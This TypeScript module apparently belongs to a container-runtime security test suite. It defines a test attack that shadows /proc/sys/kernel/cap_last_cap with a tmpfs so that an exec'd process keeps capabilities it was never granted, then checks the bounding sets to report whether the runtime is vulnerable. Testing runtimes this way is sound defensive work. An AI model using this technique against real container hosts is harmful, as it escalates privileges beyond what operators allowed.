import { contained, type Attack } from '../../attack.ts'
import { hadKernel, hasOwnKernel } from '../../kernel.ts'
import { addCapabilities } from '../../spec-changes.ts'

/** The runtime asks the kernel which capabilities there are, by a file that a container can cover. */
export const attack: Attack = {
  id: 'cap_last_cap',
  title: 'the container covers /proc/sys/kernel/cap_last_cap, so that an exec drops no capability',
  family: 'container',
  leak: 'every capability in the bounding set of each exec',
  bound: 'container',
  control: { weak: 'Debian\'s runc 1.1.5, which reads it there' },
  async run(site) {
    const container = await site.create({
      args: ['sh', '-c', 'mount -t tmpfs x /proc/sys && mkdir -p /proc/sys/kernel && echo 0 >/proc/sys/kernel/cap_last_cap; echo covered; exec sleep 100000'],
      spec: (spec) => addCapabilities(spec.process, 'CAP_SYS_ADMIN'),
    })
    await container.start()
    await container.output.until(/covered/)
    const [own = '', given = ''] = (await container.exec(['sh', '-c', 'sed -n "s/CapBnd:.//p" /proc/self/status /proc/1/status'])).stdout.split('\n')
    // An exec's own spec asks for fewer than the first process has: one bit more is too much.
    const extra = BigInt(`0x${own || '0'}`) & ~BigInt(`0x${given || '0'}`)
    if (extra === 0n) return contained(`an exec has ${own}, the first process ${given}`)
    return hadKernel(await hasOwnKernel(await site.start()), `an exec has the capabilities ${extra.toString(16)} that nobody gave it`)
  },
}
